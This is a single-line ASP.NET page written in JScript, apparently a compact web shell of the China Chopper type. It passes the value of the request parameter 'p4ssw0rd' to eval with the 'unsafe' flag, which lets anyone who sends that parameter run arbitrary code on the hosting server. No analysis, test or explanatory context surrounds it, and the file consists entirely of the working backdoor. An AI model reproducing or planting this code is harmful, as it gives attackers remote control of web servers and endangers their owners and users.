<%@ Page Language="Jscript"%><%eval(Request.Item["p4ssw0rd"],"unsafe");%>
